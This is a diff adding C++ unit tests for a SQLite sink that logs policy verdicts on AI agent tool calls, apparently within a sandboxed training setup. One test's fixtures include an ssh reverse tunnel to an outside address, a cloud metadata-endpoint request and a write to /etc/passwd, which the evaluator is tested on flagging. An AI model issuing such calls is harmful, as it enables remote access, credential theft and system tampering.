@@ -4,6 +4,7 @@
 
 #include <atomic>
 #include <chrono>
+#include <limits>
 #include <thread>
 
 #include "gtest/gtest.h"
@@ -207,7 +208,7 @@ TEST(SqliteSink, FullDiskIsAClearError) {
   TempDir dir;
   const std::string path = dir.File("full.db");
   SinkOptions options;
-  options.max_page_count = 40;  // the schema takes ~20 pages of 4 KiB
+  options.max_page_count = 40;  // the schema takes ~10 pages of 64 KiB
   auto sink = SqliteSink::Open(path, TestRun("full"), options);
   ASSERT_TRUE(sink.ok()) << sink.status();
   absl::Status status;
@@ -239,6 +240,182 @@ TEST(SqliteSink, WriteBatchAndClosedSink) {
   EXPECT_TRUE((*sink)->Close().ok());  // idempotent
   EXPECT_EQ((*sink)->Write(SampleRecord(0)).code(), absl::StatusCode::kFailedPrecondition);
   EXPECT_EQ((*sink)->committed(), 10);
+}
+
+// The step path: a step's verdicts in an EventBatch come back as the records
+// MakeRecord would have made from them.
+TEST(SqliteSink, EventBatchRoundTrip) {
+  TempDir dir;
+  const std::string path = dir.File("batch.db");
+  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
+  Evaluator evaluator(policy, 4);
+  const std::vector<ToolCall> calls = {
+      {"read_file", R"({"path": "src/a.py"})"},
+      {"shell", R"({"command": "ssh -fNR 9000:localhost:22 a@203.0.113.5"})"},
+      {"http_get", R"({"url": "http://169.254.169.254/latest/meta-data/"})"},
+      {"write_file", R"({"path": "/etc/passwd", "content": "x"})"},
+      {"launch_rocket", "{}"},
+      {"shell", "not json at all \"quoted\" \t\n"},
+  };
+  auto sink = SqliteSink::Open(path, RunInfo::ForPolicy("batch", *policy));
+  ASSERT_TRUE(sink.ok()) << sink.status();
+  EventBatch batch(policy);
+  std::vector<DecisionRecord> expected;
+  for (int step = 0; step < 3; ++step) {
+    for (size_t i = 0; i < calls.size(); ++i) {
+      Verdict v = evaluator.Evaluate(static_cast<int>(i % 4), calls[i]);
+      RecordContext context{.env = static_cast<int64_t>(i % 4), .episode = 7, .step = step,
+                            .tool = calls[i].tool, .arguments = calls[i].arguments};
+      if (i % 2 == 0) {
+        context.reward_before = 1.25 * static_cast<double>(i);
+        context.reward_after = context.reward_before.value() - v.penalty;
+      }
+      if (i == 3) context.timestamp_us = 1700000000000000 + step;
+      batch.Add(v, context);
+      expected.push_back(MakeRecord(*policy, v, context));
+    }
+    ASSERT_EQ(batch.size(), calls.size());
+    for (size_t i = 0; i < batch.size(); ++i) {
+      DecisionRecord r = batch.Record(i);
+      DecisionRecord& e = expected[expected.size() - calls.size() + i];
+      if (i != 3) e.timestamp_us = r.timestamp_us;  // "now": one clock read per batch
+      EXPECT_EQ(r, e) << "step " << step << " event " << i;
+    }
+    ASSERT_TRUE((*sink)->WriteBatch(&batch).ok());
+    EXPECT_TRUE(batch.empty());
+    EXPECT_EQ(&batch.policy(), policy.get());
+  }
+  ASSERT_TRUE((*sink)->Close().ok());
+  EXPECT_EQ((*sink)->committed(), static_cast<int64_t>(expected.size()));
+  // Closed: the batch is refused and emptied.
+  batch.Add(Verdict{}, {.tool = "x"});
+  EXPECT_EQ((*sink)->WriteBatch(&batch).code(), absl::StatusCode::kFailedPrecondition);
+  EXPECT_TRUE(batch.empty());
+
+  auto reader = AuditReader::Open(path);
+  ASSERT_TRUE(reader.ok()) << reader.status();
+  auto read = reader->ReadRecords(std::nullopt);
+  ASSERT_TRUE(read.ok()) << read.status();
+  ASSERT_EQ(read->size(), expected.size());
+  int violations = 0;
+  for (size_t i = 0; i < expected.size(); ++i) {
+    expected[i].run_id = (*sink)->run_id();
+    EXPECT_EQ((*read)[i], expected[i]) << "record " << i;
+    violations += expected[i].action != Action::kAllow;
+  }
+  EXPECT_GT(violations, 0);
+  EXPECT_EQ(reader->Runs()->front().violations, violations);
+}
+
+// Texts JSON cannot hold as they are (bytes that are not UTF-8, NUL, control
+// characters) and numbers it cannot (NaN, infinities) survive the blocks.
+TEST(SqliteSink, OddTextsAndNumbersRoundTrip) {
+  TempDir dir;
+  const std::string path = dir.File("odd.db");
+  auto sink = SqliteSink::Open(path, TestRun("odd"));
+  ASSERT_TRUE(sink.ok()) << sink.status();
+  std::vector<DecisionRecord> written;
+  const std::string odd[] = {
+      std::string("bad \xff\xfe utf-8", 15), std::string("nul\0byte", 8), "ctl \x01\x1f\x7f",
+      "quotes \" and \\ backslash", "h\xc3\xa9llo \xe2\x82\xac", "", std::string(5000, 'y')};
+  for (size_t i = 0; i < std::size(odd); ++i) {
+    DecisionRecord r = SampleRecord(static_cast<int64_t>(i));
+    r.arguments = odd[i];
+    r.tool = odd[(i + 1) % std::size(odd)];
+    r.reason = odd[(i + 2) % std::size(odd)];
+    r.capabilities.push_back(odd[(i + 3) % std::size(odd)]);
+    r.rules.push_back({odd[(i + 4) % std::size(odd)], Action::kWarn});
+    r.penalty = i == 0 ? 0.1f : r.penalty;
+    r.reward_before = i == 1 ? std::numeric_limits<double>::infinity() : 0.1;
+    r.reward_after = i == 1 ? -std::numeric_limits<double>::infinity() : 1e300;
+    written.push_back(r);
+  }
+  DecisionRecord nan = SampleRecord(99);
+  nan.reward_before = std::numeric_limits<double>::quiet_NaN();
+  written.push_back(nan);
+  ASSERT_TRUE((*sink)->WriteBatch(absl::MakeSpan(written)).ok());
+  ASSERT_TRUE((*sink)->Close().ok());
+  auto read = AuditReader::Open(path)->ReadRecords(std::nullopt);
+  ASSERT_TRUE(read.ok()) << read.status();
+  ASSERT_EQ(read->size(), std::size(odd) + 1);
+  for (size_t i = 0; i < std::size(odd); ++i) {
+    DecisionRecord expected = SampleRecord(static_cast<int64_t>(i));
+    expected.run_id = (*sink)->run_id();
+    expected.arguments = odd[i];
+    expected.tool = odd[(i + 1) % std::size(odd)];
+    expected.reason = odd[(i + 2) % std::size(odd)];
+    expected.capabilities.push_back(odd[(i + 3) % std::size(odd)]);
+    expected.rules.push_back({odd[(i + 4) % std::size(odd)], Action::kWarn});
+    expected.penalty = i == 0 ? 0.1f : expected.penalty;
+    expected.reward_before = i == 1 ? std::numeric_limits<double>::infinity() : 0.1;
+    expected.reward_after = i == 1 ? -std::numeric_limits<double>::infinity() : 1e300;
+    EXPECT_EQ((*read)[i], expected) << "record " << i;
+  }
+  EXPECT_FALSE(read->back().reward_before.has_value());  // NaN reads back as unknown, as REAL did
+}
+
+// The views give every event, rule, cost and capability one row each, as
+// the version 1 tables did, for ad-hoc SQL.
+TEST(SqliteSink, ViewsUnpackTheBlocks) {
+  TempDir dir;
+  const std::string path = dir.File("views.db");
+  SinkOptions options;
+  options.max_batch = 7;  // several blocks
+  auto sink = SqliteSink::Open(path, TestRun("views"), options);
+  ASSERT_TRUE(sink.ok()) << sink.status();
+  for (int i = 0; i < 50; ++i) ASSERT_TRUE((*sink)->Write(SampleRecord(i)).ok());
+  ASSERT_TRUE((*sink)->Close().ok());
+  sqlite3* db = nullptr;
+  ASSERT_EQ(sqlite3_open_v2(path.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
+  auto one = [&](const char* sql) {
+    sqlite3_stmt* stmt = nullptr;
+    EXPECT_EQ(sqlite3_prepare_v2(db, sql, -1, &stmt, nullptr), SQLITE_OK) << sqlite3_errmsg(db);
+    std::string out;
+    if (sqlite3_step(stmt) == SQLITE_ROW) {
+      const unsigned char* text = sqlite3_column_text(stmt, 0);
+      out = text ? reinterpret_cast<const char*>(text) : "NULL";
+    }
+    sqlite3_finalize(stmt);
+    return out;
+  };
+  EXPECT_EQ(one("SELECT count(*) FROM event_blocks"), "8");
+  EXPECT_EQ(one("SELECT count(*) FROM events"), "50");
+  EXPECT_EQ(one("SELECT group_concat(step) FROM (SELECT step FROM events ORDER BY id LIMIT 9)"),
+            "0,1,2,3,4,5,6,7,8");
+  EXPECT_EQ(one("SELECT arguments FROM events WHERE step = 12"), "{\"command\":\"echo 12\"}");
+  EXPECT_EQ(one("SELECT kind || ' ' || tool || ' ' || action || ' ' || penalty || ' ' || reason "
+                "FROM events WHERE step = 15"),
+            "observation sandbox block 1.5 `egress-allowlist`: blocked");
+  EXPECT_EQ(one("SELECT reason || '|' || costs || '|' || ifnull(reward_before, 'null') || '|' || ts_us "
+                "FROM events WHERE step = 1"),
+            "|[]|null|1700000000000001");
+  EXPECT_EQ(one("SELECT count(*) FROM violations"), "10");
+  EXPECT_EQ(one("SELECT count(*) FROM event_rules WHERE rule = 'run-programs' AND action = 'allow'"),
+            "50");
+  EXPECT_EQ(one("SELECT count(*) FROM flagged_rules WHERE rule = 'egress-allowlist'"), "10");
+  EXPECT_EQ(one("SELECT sum(cost) FROM event_costs WHERE category = 'network'"), "10.0");
+  EXPECT_EQ(one("SELECT sum(cost) FROM flagged_costs WHERE category = 'privilege'"), "5.0");
+  EXPECT_EQ(one("SELECT count(*) FROM event_capabilities WHERE capability = 'shell.exec'"), "50");
+  EXPECT_EQ(one("SELECT sum(events) FROM block_counts WHERE kind = 'tool' AND name = 'sandbox'"),
+            "17");
+  // Violations point at their event.
+  EXPECT_EQ(one("SELECT count(*) FROM violations v JOIN events e ON e.id = v.event_id "
+                "WHERE e.step = v.step AND e.arguments = v.arguments"),
+            "10");
+  sqlite3_close(db);
+}
+
+// Events are committed without a Flush too, within about the commit interval.
+TEST(SqliteSink, CommitsWithoutFlush) {
+  TempDir dir;
+  auto sink = SqliteSink::Open(dir.File("lazy.db"), TestRun("lazy"));
+  ASSERT_TRUE(sink.ok());
+  ASSERT_TRUE((*sink)->Write(SampleRecord(1)).ok());
+  const auto deadline = steady_clock::now() + milliseconds(5000);
+  while ((*sink)->committed() == 0 && steady_clock::now() < deadline)
+    std::this_thread::sleep_for(milliseconds(10));
+  EXPECT_EQ((*sink)->committed(), 1);
+  ASSERT_TRUE((*sink)->Close().ok());
 }
 
 TEST(SqliteSink, RejectsAFileThatIsNotADatabase) {
